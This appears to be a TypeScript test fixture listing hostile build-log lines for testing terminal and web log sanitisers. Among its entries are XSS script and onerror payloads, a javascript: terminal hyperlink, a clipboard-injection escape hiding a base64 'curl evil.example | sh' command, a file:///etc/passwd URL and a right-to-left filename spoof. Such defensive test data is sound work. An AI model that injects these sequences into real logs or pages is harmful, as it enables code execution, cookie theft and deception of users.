/** What a log may hold that a terminal or a page must not act on; every line is one somebody's build really printed. */
export const hostileLines: readonly string[] = [
  "\u001b[2J\u001b[H\u001b[3Jcleared the screen",
  "\u001b]0;a title of its own\u0007and went on",
  "\u001b]8;;javascript:alert(document.domain)\u0007a link\u001b]8;;\u0007",
  "\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007into the clipboard",
  "\u001b[31mred that nobody ends",
  "\u001b[38;5;",
  "\u001b[999;999Hfar away \u001b[1A\u001b[2Kand over the line above",
  "\u001b[38;2;255;999;-1;4:3;58;2;1mcolours that are none\u001b[0m",
  `${"\u001b[1m".repeat(400)}four hundred times bold${"\u001b[0m".repeat(400)}`,
  "<script>alert(document.cookie)</script><img src=x onerror=alert(1)>",
  "</pre></code><h1>not part of the log</h1>&lt;b&gt;&amp;#x3c;",
  "10 %\r20 %\r30 %\r100 %\u001b[K",
  "back\b\b\b\bspaced, \u0000nul, \u0007bell, \u009b31mC1",
  "user \u202egnp.exe\u202c and zero\u200b\u200d\ufeffwidth",
  "e\u0301\u0301\u0301\u0301\u0301\u0301 \u{1f469}\u200d\u{1f4bb} \u{e0041}\u{e0042}",
  "javascript:alert(1) https://user:pass@evil.example/?q=<x> file:///etc/passwd",
];
